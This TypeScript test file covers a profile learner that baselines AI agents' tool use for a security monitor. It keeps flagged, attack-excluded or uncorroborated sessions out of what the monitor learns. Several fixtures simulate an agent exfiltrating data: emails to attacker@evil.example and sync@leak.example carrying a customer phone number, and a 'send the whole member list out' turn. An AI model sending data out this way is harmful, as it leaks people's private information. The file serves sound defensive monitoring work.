import { ConfigError, InvalidInputError, type AgentEvent } from '@warden/core';
import { SessionBuilder } from '../../testdata/session-builder';
import type { AgentProfile } from './agent-profile';
import { ProfileLearner } from './profile-learner';
import type { ProfileLearnerConfig } from '../config';

const MIN = 60_000;
const ops = { tenant: 'acme', agentId: 'ops-1', agentType: 'ops', convention: 'otel_genai' as const };

function session(id: string, start: number, agent = ops, extra?: (b: SessionBuilder) => void): AgentEvent[] {
  const b = new SessionBuilder(agent, id, start);
  b.turn('check');
  b.tool('db.query', { table: 'deploys' }, { rows: [{}, {}, {}] });
  b.tool('status.check', { service: 'api' }, { ok: true }, { httpHost: 'status.known.example' });
  b.tool('slack.post_message', { channel: '#ops', text: 'ok' }, { ok: true });
  extra?.(b);
  b.llm('done');
  return b.events;
}

describe('ProfileLearner', () => {
  test('learns a session only once it has been idle for the configured gap (event time)', () => {
    const l = new ProfileLearner();
    for (const e of session('s1', 0)) l.observe(e);
    expect(l.closeIdleSessions(5 * MIN)).toEqual([]);
    const snaps = l.closeIdleSessions(20 * MIN);
    expect(snaps.map((s) => s.subject)).toEqual(['agent:ops-1', 'cohort:ops']);
    const p = snaps[0]?.profile as AgentProfile;
    expect(p.sessions).toBe(1);
    expect(Object.keys(p.tools).sort()).toEqual(['db.query', 'slack.post_message', 'status.check']);
    expect(p.transitions['<start>->db.query']?.n).toBe(1);
    expect(p.transitions['slack.post_message-><end>']?.n).toBe(1);
    expect(p.destinations.channel['#ops']?.n).toBe(1);
    expect(p.hostsByTool['status.check']?.['status.known.example']?.n).toBe(1);
    expect(p.resources['table:deploys']?.n).toBe(1);
    expect(p.dataDomains['db']?.n).toBe(1);
    expect(p.records['db.query']?.max).toBe(3);
    expect(p.models['gpt-4o-2024-08-06']?.n).toBe(1);
    expect(JSON.parse(JSON.stringify(p))).toEqual(p);
    expect(l.closeIdleSessions(30 * MIN)).toEqual([]);
  });

  test("with each agent's own event time, only the sessions its agent's time has passed are learned", () => {
    const l = new ProfileLearner();
    for (const e of session('s1', 0)) l.observe(e);
    for (const e of session('s2', 0, { ...ops, agentId: 'ops-2' })) l.observe(e);
    const snaps = l.closeIdleSessions((_tenant, agentId) => (agentId === 'ops-1' ? 60 * MIN : 5 * MIN));
    expect(snaps.map((s) => s.subject)).toEqual(['agent:ops-1', 'cohort:ops']);
    expect(l.stats().openSessions).toBe(1);
    expect(() => l.closeIdleSessions(() => Number.NaN)).toThrow(InvalidInputError);
  });

  test('flagged sessions are never learned, even when flagged before their first event', () => {
    const l = new ProfileLearner();
    l.markFlagged('acme', 'bad');
    for (const e of session('bad', 0, ops, (b) => b.tool('email.send', { to: 'attacker@evil.example' }, { ok: true }))) l.observe(e);
    for (const e of session('good', 0)) l.observe(e);
    l.closeIdleSessions(60 * MIN);
    const p = l.profile('acme', 'agent:ops-1') as AgentProfile;
    expect(p.sessions).toBe(1);
    expect(p.destinations.email['attacker@evil.example']).toBeUndefined();
    expect(l.stats().discardedFlaggedSessions).toBe(1);
  });

  test('tenants never shape each other: profiles are keyed by tenant', () => {
    const l = new ProfileLearner();
    for (const e of session('s1', 0)) l.observe(e);
    for (const e of session('s1', 0, { ...ops, tenant: 'other' }, (b) => b.tool('shell.exec', {}, {}))) l.observe(e);
    l.closeIdleSessions(60 * MIN);
    expect(l.profile('acme', 'cohort:ops')?.tools['shell.exec']).toBeUndefined();
    expect(l.profile('other', 'cohort:ops')?.tools['shell.exec']?.n).toBe(1);
  });

  test('a plugin host is attributed to its tool although the HTTP child span arrives first', () => {
    const l = new ProfileLearner();
    const events = session('s1', 0);
    const childIdx = events.findIndex((e) => e.kind === 'other');
    expect(childIdx).toBeGreaterThanOrEqual(0);
    expect(events[childIdx + 1]?.name).toBe('status.check');
    for (const e of events) l.observe(e);
    l.closeIdleSessions(60 * MIN);
    expect(Object.keys(l.profile('acme', 'agent:ops-1')?.hostsByTool['status.check'] ?? {})).toEqual(['status.known.example']);
  });

  test('maps stay bounded to top-K', () => {
    const l = new ProfileLearner({ profileTopK: 5, profileRecentValues: 10 });
    for (let i = 0; i < 20; i++) for (const e of session(`s${i}`, i * 60 * MIN, ops, (b) => b.tool('slack.post_message', { channel: `#c${i}` }, {}))) l.observe(e);
    l.closeIdleSessions(100 * 60 * MIN);
    const p = l.profile('acme', 'agent:ops-1') as AgentProfile;
    expect(Object.keys(p.destinations.channel).length).toBe(5);
    expect(p.destinations.channel['#ops']?.n).toBe(20);
    expect(p.toolCallsPerSession.recent.length).toBe(10);
    expect(p.toolCallsPerSession.count).toBe(20);
    expect(p.destinationNovelty.channel).toBe(20);
  });

  test('exportState / restore resumes open sessions, profiles and flags', () => {
    const a = new ProfileLearner();
    for (const e of session('s1', 0)) a.observe(e);
    a.closeIdleSessions(30 * MIN);
    const open = session('s2', 40 * MIN);
    for (const e of open.slice(0, 3)) a.observe(e);
    a.markFlagged('acme', 'x');
    const b = ProfileLearner.restore(JSON.parse(JSON.stringify(a.exportState())));
    for (const e of open.slice(3)) {
      a.observe(e);
      b.observe(e);
    }
    expect(b.closeIdleSessions(120 * MIN)).toEqual(a.closeIdleSessions(120 * MIN));
    expect(b.isFlagged('acme', 'x')).toBe(true);
  });

  test('bad input is refused with a clear error and changes nothing', () => {
    const l = new ProfileLearner();
    const e = session('s1', 0)[0] as AgentEvent;
    expect(() => l.observe({ ...e, tenant: '' })).toThrow(InvalidInputError);
    expect(() => l.observe({ ...e, startTimeMs: Number.NaN })).toThrow(/startTimeMs/);
    expect(l.stats().openSessions).toBe(0);
    expect(() => l.closeIdleSessions(Number.NaN)).toThrow(InvalidInputError);
    expect(() => ProfileLearner.restore({ schema: 2 } as never)).toThrow(InvalidInputError);
    expect(() => new ProfileLearner({ sessionIdleMs: -1, minAgentSessions: 1.5 })).toThrow(ConfigError);
  });

  test('open sessions are bounded; the least recently active is dropped', () => {
    const l = new ProfileLearner({ maxOpenSessions: 2 });
    for (const id of ['a', 'b', 'c']) for (const e of session(id, 0)) l.observe(e);
    expect(l.stats().openSessions).toBe(2);
    expect(l.stats().droppedSessions).toBe(1);
  });
});

describe('learning after the scorer verdict', () => {
  const agent = { tenant: 'acme', agentId: 'a-1', agentType: 'support', convention: 'otel_genai' as const };
  const MIN = 60_000;

  function session(id: string, start: number) {
    const b = new SessionBuilder(agent, id, start);
    b.turn('hi');
    b.tool('crm.get_customer', { customer_id: 1 }, { id: 1 });
    return b.events;
  }
  const verdict = (sessionId: string, exclude: boolean) => ({ tenant: 'acme', agentId: 'a-1', sessionId, lastEventMs: 0, exclude });

  it('holds a completed session until its verdict, then learns or discards it as the verdict says', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('clean', 0).forEach((e) => learner.observe(e));
    session('attack', MIN).forEach((e) => learner.observe(e));
    expect(learner.closeIdleSessions(60 * MIN)).toEqual([]);
    expect(learner.stats().awaitingVerdict).toBe(2);
    const snapshots = learner.applyVerdicts([verdict('clean', false), verdict('attack', true)]);
    expect(snapshots.map((s) => s.subject)).toEqual(['agent:a-1', 'cohort:support']);
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, discardedFlaggedSessions: 1, awaitingVerdict: 0 });
  });

  it('keeps a verdict that arrives before the session closes', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('early', 0).forEach((e) => learner.observe(e));
    expect(learner.applyVerdicts([verdict('early', true)])).toEqual([]);
    expect(learner.closeIdleSessions(60 * MIN)).toEqual([]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 0, discardedFlaggedSessions: 1, awaitingVerdict: 0 });
  });

  it('keeps a verdict that comes before the session\'s events (a lagging events consumer), for the spans it covers', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    const events = session('fast', 0);
    const lastEventMs = Math.max(...events.map((e) => e.endTimeMs));
    expect(learner.applyVerdicts([{ ...verdict('fast', false), lastEventMs }])).toEqual([]);
    events.forEach((e) => learner.observe(e));
    expect(learner.closeIdleSessions(60 * MIN).length).toBe(2);
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, awaitingVerdict: 0 });

    // A verdict on the first part of a session does not cover what came after it.
    const longer = [...session('long', 0), ...session('long', 5 * MIN)];
    learner.applyVerdicts([{ ...verdict('long', false), lastEventMs: Math.max(...session('long', 0).map((e) => e.endTimeMs)) }]);
    longer.forEach((e) => learner.observe(e));
    expect(learner.closeIdleSessions(120 * MIN)).toEqual([]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, awaitingVerdict: 1 });
    // The verdict on the whole session settles it, and an exclusion in the early one still wins.
    learner.applyVerdicts([{ ...verdict('long', true), lastEventMs: 0 }]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, awaitingVerdict: 0, discardedFlaggedSessions: 1 });
  });

  it('learns a session but not the destinations its verdict withholds (where sensitive data went)', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    const b = new SessionBuilder(agent, 'drip', 0);
    b.turn('handle the ticket');
    b.tool('email.send', { to: 'customer@example.com', body: 'your ticket is closed' }, { ok: true });
    b.tool('email.send', { to: 'sync@leak.example', body: 'C-1 phone: +1-312-555-0142' }, { ok: true });
    b.events.forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    const [agentSnapshot] = learner.applyVerdicts([
      {
        ...verdict('drip', false),
        withheldDestinations: [
          { kind: 'email', value: 'sync@leak.example' },
          { kind: 'email_domain', value: 'leak.example' },
        ],
      },
    ]);
    const p = agentSnapshot?.profile as AgentProfile;
    expect(p.sessions).toBe(1);
    expect(p.tools['email.send']?.n).toBeGreaterThan(0);
    expect(Object.keys(p.destinations.email)).toEqual(['customer@example.com']);
    expect(Object.keys(p.destinations.email_domain)).toEqual(['example.com']);
  });

  it('carries sessions awaiting a verdict across a restart', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('s', 0).forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    const restored = ProfileLearner.restore(JSON.parse(JSON.stringify(learner.exportState())), { learnAfterVerdict: true });
    expect(restored.applyVerdicts([verdict('s', false)]).length).toBe(2);
  });
});

describe('a person reviewing a finding as benign', () => {
  const agent = { tenant: 'acme', agentId: 'a-1', agentType: 'support', convention: 'otel_genai' as const };
  const MIN = 60_000;

  function session(id: string, start: number, tool = 'pension_portal.submit_schedule') {
    const b = new SessionBuilder(agent, id, start);
    b.turn('submit the monthly pension schedule');
    b.tool(tool, { month: '2026-10' }, { ok: true }, { httpHost: 'employer.pensions.example' });
    return b.events;
  }
  const verdict = (sessionId: string, exclude: boolean) => ({ tenant: 'acme', agentId: 'a-1', sessionId, lastEventMs: 0, exclude });
  const review = (sessionId: string) => ({
    ...verdict(sessionId, false),
    review: { findingId: `f-${sessionId}`, by: 'alice', reason: 'the monthly pension schedule, as agreed with payroll', atMs: 0 },
  });
  const knows = (l: ProfileLearner, tool: string) => l.profile('acme', 'agent:a-1')?.tools[tool] !== undefined;

  it('learns an excluded session that was held for review, withholding what its verdict withheld', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    const b = new SessionBuilder(agent, 'flagged', 0);
    b.turn('submit the schedule and tell the broker');
    b.tool('pension_portal.submit_schedule', { month: '2026-10' }, { ok: true }, { httpHost: 'employer.pensions.example' });
    b.tool('email.send', { to: 'broker@pensions.example', body: 'done' }, { ok: true });
    b.events.forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    expect(learner.applyVerdicts([{ ...verdict('flagged', true), withheldDestinations: [{ kind: 'email', value: 'broker@pensions.example' }] }])).toEqual([]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 0, discardedFlaggedSessions: 1, heldForReview: 1 });
    const snapshots = learner.applyVerdicts([review('flagged')]);
    expect(snapshots.map((s) => s.subject)).toEqual(['agent:a-1', 'cohort:support']);
    expect(knows(learner, 'pension_portal.submit_schedule')).toBe(true);
    expect(learner.profile('acme', 'agent:a-1')?.destinations.email?.['broker@pensions.example']).toBeUndefined();
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, learnedAfterReview: 1, heldForReview: 0, reviewsUnmatched: 0 });
    // A second review of the same finding finds nothing left to learn.
    expect(learner.applyVerdicts([review('flagged')])).toEqual([]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 1, reviewsUnmatched: 1 });
  });

  it('learns a session flagged from its findings once it is reviewed, and only that agent\'s session', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    learner.markFlagged('acme', 'flagged');
    session('flagged', 0).forEach((e) => learner.observe(e));
    session('other', 0, 'loyalty.cancel_transfer').forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    learner.applyVerdicts([verdict('flagged', false), verdict('other', true)]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 0, heldForReview: 2 });
    learner.applyVerdicts([review('flagged')]);
    expect(knows(learner, 'pension_portal.submit_schedule')).toBe(true);
    expect(knows(learner, 'loyalty.cancel_transfer')).toBe(false);
    expect(learner.stats()).toMatchObject({ learnedAfterReview: 1, heldForReview: 1 });
  });

  it('applies a review that comes before the verdict once the verdict comes', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('s', 0).forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    expect(learner.applyVerdicts([review('s')])).toEqual([]);
    expect(learner.applyVerdicts([verdict('s', true)]).length).toBe(2);
    expect(learner.stats()).toMatchObject({ learnedAfterReview: 1, heldForReview: 0 });
  });

  it('does not learn a session that went on after the review: the review covers what was seen', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('s', 0).forEach((e) => learner.observe(e));
    learner.applyVerdicts([review('s')]);
    const b = new SessionBuilder(agent, 's', 2 * MIN);
    b.turn('now send the whole member list out');
    b.tool('email.send', { to: 'x@elsewhere.example', body: 'members' }, { ok: true });
    b.events.forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    expect(learner.applyVerdicts([verdict('s', true)])).toEqual([]);
    expect(knows(learner, 'email.send')).toBe(false);
    expect(learner.stats()).toMatchObject({ learnedAfterReview: 0, reviewsUnmatched: 1, heldForReview: 1 });
  });

  it('counts a review of a session it never saw, and learns nothing from it', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    expect(learner.applyVerdicts([review('unknown')])).toEqual([]);
    expect(learner.stats()).toMatchObject({ learnedSessions: 0, reviewsUnmatched: 1 });
  });

  it('keeps sessions held for review across a restart', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    session('s', 0).forEach((e) => learner.observe(e));
    learner.closeIdleSessions(60 * MIN);
    learner.applyVerdicts([verdict('s', true)]);
    const restored = ProfileLearner.restore(JSON.parse(JSON.stringify(learner.exportState())), { learnAfterVerdict: true });
    expect(restored.stats().heldForReview).toBe(1);
    expect(restored.applyVerdicts([review('s')]).length).toBe(2);
    expect(() => ProfileLearner.restore({ ...learner.exportState(), heldForReview: [{ session: {}, withheld: [] }] })).toThrow(/held for review/);
  });
});

describe('forgetting', () => {
  test('a destination unused for longer than profileForgetAfterMs is forgotten; one in use stays', () => {
    const DAY = 86_400_000;
    const learner = new ProfileLearner({ profileForgetAfterMs: 30 * DAY });
    const agent = { tenant: 'acme', agentId: 'mail-9', agentType: 'mail', convention: 'otel_genai' as const };
    const send = (sessionId: string, atMs: number, to: string) => {
      const b = new SessionBuilder(agent, sessionId, atMs);
      b.turn('Send the report.');
      b.tool('email.send', { to, body: 'report' }, { ok: true });
      for (const e of b.events) learner.observe(e);
      learner.closeIdleSessions(atMs + DAY / 2);
    };
    send('old', 0, 'old-partner@partner.example');
    for (let d = 1; d <= 40; d++) send(`d${d}`, d * DAY, 'team@acme.example');
    const p = learner.profile('acme', 'agent:mail-9');
    expect(Object.keys(p?.destinations.email ?? {})).toEqual(['team@acme.example']);
  });
});

describe('a novelty held back until the cohort corroborates it', () => {
  const DAY = 86_400_000;
  const MIN = 60_000;
  const agentOf = (agentId: string) => ({ tenant: 'acme', agentId, agentType: 'desk', convention: 'otel_genai' as const });

  /** The desk's usual lookup, and optionally the insurer check it adopts later. */
  function desk(learner: ProfileLearner, agentId: string, id: string, start: number, adopts = false): void {
    const b = new SessionBuilder(agentOf(agentId), id, start);
    b.turn('is the patient insured?');
    b.tool('clinic.get_patient', { id: 'p-1' }, { ok: true });
    if (adopts) b.tool('insurer.check_cover', { patient: 'p-1' }, { covered: true }, { httpHost: 'cover.insurer.example' });
    b.events.forEach((e) => learner.observe(e));
  }
  const verdict = (agentId: string, sessionId: string, noveltyOnly: boolean) => ({
    tenant: 'acme',
    agentId,
    sessionId,
    lastEventMs: 0,
    exclude: true,
    ...(noveltyOnly ? { noveltyOnly: true } : {}),
  });
  const cohortKnows = (l: ProfileLearner, tool: string) => l.profile('acme', 'cohort:desk')?.tools[tool] !== undefined;

  /** A learner whose desk cohort knows its usual lookup, then meets the insurer check in `plays`. */
  function adoption(plays: readonly (readonly [agentId: string, day: number, noveltyOnly: boolean])[], config: Partial<ProfileLearnerConfig> = {}): ProfileLearner {
    const learner = new ProfileLearner({ learnAfterVerdict: true, ...config });
    desk(learner, 'desk-1', 'usual', 0);
    learner.closeIdleSessions(60 * MIN);
    learner.applyVerdicts([{ ...verdict('desk-1', 'usual', false), exclude: false }]);
    plays.forEach(([agentId, day, noveltyOnly], i) => {
      desk(learner, agentId, `new-${i}`, day * DAY + i * MIN, true);
      learner.closeIdleSessions(day * DAY + (i + 60) * MIN);
      learner.applyVerdicts([verdict(agentId, `new-${i}`, noveltyOnly)]);
    });
    return learner;
  }

  it('learns the held sessions once the same novelty was held on three agent-days', () => {
    const two = adoption([['desk-1', 1, true], ['desk-2', 1, true]]);
    expect(cohortKnows(two, 'insurer.check_cover')).toBe(false);
    expect(two.stats()).toMatchObject({ heldForReview: 2, learnedCorroborated: 0 });
    const three = adoption([['desk-1', 1, true], ['desk-2', 1, true], ['desk-1', 2, true]]);
    expect(cohortKnows(three, 'insurer.check_cover')).toBe(true);
    expect(three.profile('acme', 'cohort:desk')?.hostsByTool['insurer.check_cover']?.['cover.insurer.example']?.n).toBe(3);
    expect(three.stats()).toMatchObject({ heldForReview: 0, learnedCorroborated: 3 });
  });

  it('does not count one agent pushed to the same novelty again and again in one day', () => {
    const learner = adoption([['desk-1', 1, true], ['desk-1', 1, true], ['desk-1', 1, true], ['desk-1', 1, true]]);
    expect(cohortKnows(learner, 'insurer.check_cover')).toBe(false);
    expect(learner.stats()).toMatchObject({ heldForReview: 4, learnedCorroborated: 0 });
  });

  it('never learns a session excluded for attack evidence, nor counts it towards corroboration', () => {
    const learner = adoption([['desk-1', 1, false], ['desk-2', 1, true], ['desk-1', 2, true], ['desk-2', 3, false]]);
    expect(cohortKnows(learner, 'insurer.check_cover')).toBe(false);
    expect(learner.stats()).toMatchObject({ heldForReview: 4, learnedCorroborated: 0 });
  });

  it('lets a finding with attack evidence win over a novelty-only verdict on the same session', () => {
    const learner = new ProfileLearner({ learnAfterVerdict: true });
    desk(learner, 'desk-1', 'usual', 0);
    learner.closeIdleSessions(60 * MIN);
    learner.applyVerdicts([{ ...verdict('desk-1', 'usual', false), exclude: false }]);
    for (const [i, agentId] of ['desk-1', 'desk-2', 'desk-3'].entries()) {
      if (i === 1) learner.markFlagged('acme', `new-${i}`, 'attack');
      desk(learner, agentId, `new-${i}`, DAY + i * MIN, true);
      learner.closeIdleSessions(DAY + (i + 60) * MIN);
      learner.applyVerdicts([verdict(agentId, `new-${i}`, true)]);
    }
    expect(cohortKnows(learner, 'insurer.check_cover')).toBe(false);
    expect(learner.stats().learnedCorroborated).toBe(0);
  });

  it('holds novelty sessions for review only when corroboration is off', () => {
    const learner = adoption([['desk-1', 1, true], ['desk-2', 2, true], ['desk-3', 3, true]], { noveltyCorroboration: 0 });
    expect(cohortKnows(learner, 'insurer.check_cover')).toBe(false);
    expect(learner.stats()).toMatchObject({ heldForReview: 3, learnedCorroborated: 0 });
    expect(() => new ProfileLearner({ noveltyCorroboration: -1 })).toThrow(/noveltyCorroboration must be a whole number/);
  });

  it('keeps what is held for corroboration, and why findings flagged a session, across a restart', () => {
    const before = adoption([['desk-1', 1, true], ['desk-2', 1, true]]);
    before.markFlagged('acme', 'later', 'novelty');
    const restored = ProfileLearner.restore(JSON.parse(JSON.stringify(before.exportState())), { learnAfterVerdict: true });
    expect(restored.exportState().flaggedNovelty).toEqual(['acme\u0000later']);
    desk(restored, 'desk-3', 'later', 2 * DAY, true);
    restored.closeIdleSessions(2 * DAY + 60 * MIN);
    restored.applyVerdicts([verdict('desk-3', 'later', true)]);
    expect(cohortKnows(restored, 'insurer.check_cover')).toBe(true);
    expect(restored.stats().learnedCorroborated).toBe(3);
  });
});
